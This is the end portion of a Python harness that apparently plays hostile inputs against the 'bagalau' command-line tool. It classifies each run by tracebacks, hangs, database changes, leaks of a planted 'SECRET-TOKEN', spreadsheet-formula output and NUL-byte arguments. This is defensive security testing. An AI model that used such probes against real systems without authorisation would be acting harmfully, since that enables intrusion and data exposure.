        try:
            return subprocess.run([BAGALAU, *args], input=stdin, env=env, cwd=cwd, capture_output=True, text=True, timeout=hang)
        except subprocess.TimeoutExpired:
            return None
    from inprocess import cli

    own = {k: v for k, v in env.items() if k.startswith("BAGALAU_")}
    cleared: dict[str, str | None] = {k: None for k in os.environ if k.startswith(("BAGALAU_", "PREFECT_API_URL"))}
    result: list[subprocess.CompletedProcess[str]] = []

    def call() -> None:
        try:
            done = cli(*args, stdin=stdin, env={**cleared, **own})
            result.append(subprocess.CompletedProcess(args, done.code, done.out, done.err))
        except BaseException as error:  # noqa: BLE001 (what a process would print as its traceback)
            result.append(subprocess.CompletedProcess(args, 1, "", f"Traceback (in process): {error!r}"))

    was = Path.cwd()
    os.chdir(cwd)
    try:
        worker = threading.Thread(target=call, daemon=True)
        worker.start()
        worker.join(hang)
    finally:
        os.chdir(was)
    return result[0] if result else None


def play(case: Case, template: Path, postgres: str | None, hang: int = HANG) -> str:
    with tempfile.TemporaryDirectory() as folder:
        where = Path(folder)
        for name, content in case.files.items():
            (where / name).parent.mkdir(parents=True, exist_ok=True)
            (where / name).write_bytes(content)
        if case.postgres:
            url = postgres or ""
        else:
            shutil.copy(template, where / "db.sqlite3")
            url = f"sqlite:///{where / 'db.sqlite3'}"
        places = {"@DB": url, "@SCORED": SCORED.get("", "1")}
        args = [places.get(a, a) for a in case.args]
        if not IN_PROCESS[0] and any("\x00" in a for a in args):
            return "unpassable"  # the OS refuses a NUL in a process's argument (no shell can type one); in process it is played
        env = {**environment(url), **case.env}
        for first in case.before:
            made = run(first, "", env, where, 10 * HANG)
            assert made is not None and made.returncode == 0, (first, made)
        before = digest(url)
        done = run(args, case.stdin, env, where, hang)
        if done is None:
            return "hang"
        if case.check is not None:
            return expected(case, done, where)
        changed = digest(url) != before
        lines = [line for line in done.stderr.strip().splitlines() if not line.startswith("no Prefect server")]
        if "Traceback" in done.stderr or "Traceback" in done.stdout:
            return "traceback"
        if changed:
            return "changed"
        if "SECRET-TOKEN" in done.stderr + done.stdout:
            return "secret"
        if done.returncode == 2 and len(lines) == 1:
            return "clean"
        if case.warns and done.returncode == 0 and done.stdout.startswith("mne2017\t") and warned(case, lines, where):
            return "clean"  # the good definitions listed, each broken file named in one line
        if done.returncode == 2 and args[:2] == ["org", "import"] and "Nothing loaded" in done.stderr:
            return "clean"  # the import's report: one table row per problem, by design
        return f"other (exit {done.returncode}: {done.stderr.strip()[:160]})"


def warned(case: Case, lines: list[str], where: Path) -> bool:
    broken = sorted(str(where / name) for name in case.files if name.endswith(".yaml"))
    return len(lines) == len(broken) and all(line.startswith(f"{path}: ") for line, path in zip(lines, broken))


def expected(case: Case, done: subprocess.CompletedProcess[str], where: Path) -> str:
    """A command that must succeed on a hostile setting: clean when what it wrote is safe."""
    if "Traceback" in done.stderr or "Traceback" in done.stdout:
        return "traceback"
    if done.returncode != 0:
        return f"other (exit {done.returncode}: {done.stderr.strip()[:160]})"
    problem = case.check(where) if case.check else None
    return f"formula ({problem})" if problem else "neutralised"


SCORED: dict[str, str] = {}  # the seeded database's URL → the id of a notice carrying a score


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--postgres", default="postgresql://postgres@127.0.0.1:5432/test")
    parser.add_argument("--only", help="play only the inputs whose name holds this text")
    parser.add_argument("--part", default="1/1", help="K/N: every Nth input from the Kth, to spread a run over processes")
    parser.add_argument("--workers", type=int, default=2)
    parser.add_argument("--in-process", action="store_true", help="call the entry point in this process, one input at a time "
                        "(a loaded machine); a hang then stops the run")
    options = parser.parse_args()
    if options.in_process:
        IN_PROCESS[0], options.workers = True, 1
        threading.stack_size(64 * 1024 * 1024)  # a process's main thread has megabytes; a thread's default is less
        sys.path[:0] = [str(ROOT), str(ROOT / "tests")]
    part, parts = map(int, options.part.split("/"))
    everything = [c for c in cases() if options.only is None or options.only in c.name][part - 1::parts]
    with seeded(options.postgres) as (template, postgres):
        outcomes = play_all(everything, template, postgres, options.workers)
    summarise(outcomes)


@contextmanager
def seeded(postgres_url: str | None) -> Iterator[tuple[Path, str | None]]:
    """The seeded SQLite file each input copies, and the URL of a seeded PostgreSQL schema of
    this run (dropped at the end), or None without `postgres_url`."""
    with tempfile.TemporaryDirectory() as folder:
        template = Path(folder) / "template.sqlite3"
        seed(f"sqlite:///{template}")
        SCORED.update({"": scored_notice(f"sqlite:///{template}")})
        if postgres_url is None:
            yield template, None
            return
        schema = f"bagalau_campaign_{uuid.uuid4().hex[:8]}"
        admin = sa.create_engine(postgres_url.replace("postgresql://", "postgresql+psycopg://"))
        with admin.begin() as connection:
            connection.execute(sa.text(f'create schema "{schema}"'))
        try:
            postgres = f"{postgres_url}?options=-csearch_path%3D{schema}"
            seed(postgres, more=False)
            yield template, postgres
        finally:
            with admin.begin() as connection:
                connection.execute(sa.text(f'drop schema "{schema}" cascade'))
            admin.dispose()


def play_all(everything: list[Case], template: Path, postgres: str, workers: int) -> dict[str, str]:
    """Every input, each outcome printed as it comes; a hang is played again alone."""
    def one(case: Case, hang: int = HANG) -> str:
        outcome = play(case, template, postgres, hang)
        print(f"  [{case.name}] {outcome}", file=sys.stderr, flush=True)
        return outcome

    local = [c for c in everything if not c.postgres]
    with ThreadPoolExecutor(workers) as pool:
        outcomes = dict(zip((c.name for c in local), pool.map(one, local)))
    for case in (c for c in everything if c.postgres):
        outcomes[case.name] = one(case)
    for case in [c for c in everything if outcomes[c.name] == "hang"]:  # alone, to tell load from a hang
        again = one(case, 4 * HANG)
        outcomes[case.name] = "hang" if again == "hang" else f"{again} (slow under load: over {HANG} s with others)"
    return outcomes


def summarise(outcomes: dict[str, str]) -> None:
    counts: dict[str, int] = {}
    for name, outcome in outcomes.items():
        kind = outcome.split(" ")[0]
        counts[kind] = counts.get(kind, 0) + 1
        if kind not in ("clean", "neutralised", "unpassable") or "slow" in outcome:
            print(f"  {name}: {outcome}")
    print(json.dumps({"inputs": len(outcomes), "clean": counts.get("clean", 0), "neutralised": counts.get("neutralised", 0),
                      "formulas": counts.get("formula", 0), "tracebacks": counts.get("traceback", 0),
                      "hangs": counts.get("hang", 0), "database_changed": counts.get("changed", 0),
                      "secret_printed": counts.get("secret", 0), "other": counts.get("other", 0),
                      "unpassable": counts.get("unpassable", 0)}, indent=2))


if __name__ == "__main__":
    main()
